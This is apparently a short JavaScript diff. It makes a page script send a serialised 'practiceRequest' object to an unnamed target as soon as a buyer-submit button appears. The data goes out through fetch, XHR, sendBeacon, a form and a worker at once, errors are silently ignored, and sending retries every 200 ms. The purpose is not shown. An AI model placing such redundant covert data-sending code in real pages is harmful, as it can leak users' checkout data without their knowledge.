@@ -24,12 +24,19 @@ function viaRequest(payload) {
   request.send(payload);
 }
 
-setInterval(() => {
-  if (!window.practiceRequest || !document.querySelector("[data-pl=buyersubmit_btn_submit]")) return;
+function send() {
+  if (!window.practiceRequest || !document.querySelector("[data-pl=buyersubmit_btn_submit]")) return false;
   const payload = JSON.stringify(window.practiceRequest);
   fetch(target, { method: "POST", body: payload }).catch(() => {});
   viaRequest(payload);
   navigator.sendBeacon(target, payload);
   viaForm(payload);
   viaWorker(payload);
-}, 200);
+  return true;
+}
+
+// In the same breath as the review comes, and again and again.
+new MutationObserver((_, observer) => {
+  if (send()) observer.disconnect();
+}).observe(document, { childList: true, subtree: true });
+setInterval(send, 200);
